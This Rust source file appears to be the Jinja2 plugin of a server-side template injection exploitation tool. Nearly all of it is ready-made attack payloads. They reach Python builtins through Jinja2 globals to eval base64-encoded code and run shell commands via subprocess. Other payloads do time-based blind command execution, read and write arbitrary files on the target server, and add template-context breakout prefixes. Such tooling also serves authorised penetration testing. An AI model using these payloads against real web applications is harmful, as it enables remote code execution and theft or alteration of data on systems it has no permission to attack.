//! Python-hosted template engines (§ supplemented features). Jinja2 is
//! the canonical member of this family: its expression language exposes
//! enough of the Python object graph (`__globals__`, `__builtins__`) to
//! reach `os`/`subprocess` without any explicit import statement being
//! visible in the template source.

use std::collections::HashMap;

use crate::context::ContextDescriptor;
use crate::plugin::{
    BlindAction, Call, EvaluateAction, EvaluateBlindAction, ExecuteAction, ExecuteBlindAction, HeaderType, Md5Action,
    PluginDescriptor, PluginInfo, ReadAction, RenderAction, Version, WriteAction,
};
use crate::util;

fn quote_closures() -> HashMap<u8, Vec<Vec<String>>> {
    let mut map = HashMap::new();
    map.insert(
        1u8,
        vec![vec!["\"".to_string(), "'".to_string()], vec![String::new(), ")".to_string()]],
    );
    map
}

/// Jinja2 (https://jinja.palletsprojects.com/): the reference Python
/// template engine and the ancestor most Python-hosted engines imitate.
pub fn jinja2() -> PluginDescriptor {
    let a = util::rand_4digit();
    let b = util::rand_4digit();

    let mut d = PluginDescriptor::new("python", "jinja2", 5);
    d.header_type = HeaderType::Add;
    d.min_core_version = Version(1, 0, 0);
    d.info = PluginInfo {
        description: "Jinja2 template engine".to_string(),
        authors: vec!["Armin Ronacher".to_string()],
        references: vec!["https://jinja.palletsprojects.com/".to_string()],
        engines: vec!["jinja2".to_string()],
    };

    d.actions.render = Some(RenderAction {
        render: "{code}".to_string(),
        header: Some("{{ {header[0]}+{header[1]} }}".to_string()),
        trailer: Some("{{ {trailer[0]}+{trailer[1]} }}".to_string()),
        test_render: format!("{{{{ {}*{} }}}}", a, b),
        test_render_expected: (a * b).to_string(),
    });
    d.actions.evaluate = Some(EvaluateAction {
        call: Call::Render,
        evaluate: "{{ self.__init__.__globals__.__builtins__.eval(__import__('base64').b64decode('{code_b64p}').decode()) }}".to_string(),
        test_os: Some("__import__('platform').system()".to_string()),
        test_os_expected: Some(r"^[A-Za-z]+$".to_string()),
    });
    d.actions.execute = Some(ExecuteAction {
        call: Call::Evaluate,
        execute: "__import__('subprocess').check_output(__import__('base64').b64decode('{code_b64p}').decode(), shell=True).decode()".to_string(),
        test_cmd: None,
        test_cmd_expected: None,
    });
    d.actions.execute_blind = Some(ExecuteBlindAction {
        call: Call::Inject,
        execute_blind: "{{ self.__init__.__globals__.__builtins__.__import__('subprocess').call(__import__('base64').b64decode('{code_b64p}').decode() + ' && sleep {delay}', shell=True) }}".to_string(),
    });
    d.actions.evaluate_blind = Some(EvaluateBlindAction {
        call: Call::Inject,
        evaluate_blind: "{{ self.__init__.__globals__.__builtins__.eval(__import__('base64').b64decode('{code_b64p}').decode()) }}{{ self.__init__.__globals__.__builtins__.__import__('time').sleep({delay}) }}".to_string(),
    });
    d.actions.read = Some(ReadAction {
        call: Call::Evaluate,
        read: "__import__('base64').b64encode(open('{path}','rb').read()).decode()".to_string(),
    });
    d.actions.md5 = Some(Md5Action {
        call: Call::Evaluate,
        md5: "__import__('hashlib').md5(open('{path}','rb').read()).hexdigest()".to_string(),
    });
    d.actions.write = Some(WriteAction {
        call: Call::Evaluate,
        write: "open('{path}','ab').write(__import__('base64').b64decode('{chunk_b64p}'))".to_string(),
        truncate: Some("open('{path}','wb').close()".to_string()),
    });
    d.actions.blind = Some(BlindAction {
        call: Call::Inject,
        test_bool_true: "{{ self.__init__.__globals__.__builtins__.__import__('time').sleep({delay}) }}".to_string(),
        test_bool_false: "{{ 1 }}".to_string(),
    });

    let closures = quote_closures();
    d.contexts = vec![
        ContextDescriptor {
            level: 0,
            ..Default::default()
        },
        ContextDescriptor {
            level: 1,
            prefix: Some("{closure}}}".to_string()),
            suffix: "{{1".to_string(),
            wrappers: vec![],
            closures: closures.clone(),
        },
        ContextDescriptor {
            level: 1,
            prefix: Some("{closure} %}".to_string()),
            suffix: String::new(),
            wrappers: vec![],
            closures,
        },
        ContextDescriptor {
            level: 5,
            prefix: Some("#}".to_string()),
            suffix: "{#".to_string(),
            wrappers: vec![],
            closures: HashMap::new(),
        },
    ];

    d
}
